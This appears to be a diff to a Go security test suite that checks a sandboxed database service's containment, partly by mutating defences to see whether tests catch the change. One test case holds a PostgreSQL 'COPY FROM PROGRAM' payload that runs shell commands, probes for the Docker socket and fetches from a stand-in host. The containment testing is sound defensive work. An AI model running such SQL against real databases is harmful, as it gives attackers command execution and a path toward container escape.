@@ -23,7 +23,7 @@ var (
 	keptAnswer = absent("answers are read to a bound and never unpacked", "the agent's image holds it; probe/agent tests it")
 	noFollow   = absent("redirects are answers", "the agent's image holds it; probe/agent tests it")
 	listenMax  = off("a service must listen within a minute", "grader/service.go", "const listenTime = time.Minute", "const listenTime = 2 * time.Minute")
-	answersMax = off("a service must answer its health", "grader/service.go", "if err != nil || got[0].Status != 0 {", "if true {")
+	answersMax = off("a service must answer its health", "grader/service.go", "got[0].Status != 0 {", "got[0].Status != -1 {")
 	killed     = off("containers are killed", "lab/engine/sweep.go", "Force: true, RemoveVolumes: true,\n\t\t})\n\t\tif errdefs", "Force: false, RemoveVolumes: true,\n\t\t})\n\t\tif errdefs")
 	ownSchema  = off("a spoilt database is the service's doing", probeFile, "if spoilt(r.Error) {", "if false {")
 )
@@ -127,7 +127,7 @@ func runCases() []Case {
 		{ID: "E sql-lock", Threat: "locks the ledger for good", Base: Strong, Scope: FirstProbe,
 			Make: before(`attackSQL(true, "BEGIN; LOCK TABLE transactions IN ACCESS EXCLUSIVE MODE")`), Want: spoilt, Defence: ownSchema},
 		{ID: "E sql-program", Threat: "runs programs in the database's container", Base: Strong, Scope: FirstProbe,
-			Make: attack(`attackSQL(false, "CREATE TABLE loot (line text)", "COPY loot FROM PROGRAM 'sed s/[[:space:]]/_/g /proc/self/status; id; test -e /var/run/docker.sock && echo SOCKET; wget -T 1 -O - http://192.0.2.1/ 2>&1; true'"); attackRead("SELECT line FROM loot")`),
+			Make: attack(`attackSQL(false, "CREATE TABLE loot (line text)", "COPY loot FROM PROGRAM 'sed s/[[:space:]]/_/g /proc/self/status; id; test -e /var/run/docker.sock && echo SOC\\KET; wget -T 1 -O - http://192.0.2.1/ 2>&1; true'"); attackRead("SELECT line FROM loot")`),
 			Want: Want{Class: AsUsual, Says: []string{"read CapEff:_0000000000000000", "read uid=65532"}, Never: []string{"SOCKET"}}, Defence: noCaps},
 	}
 }
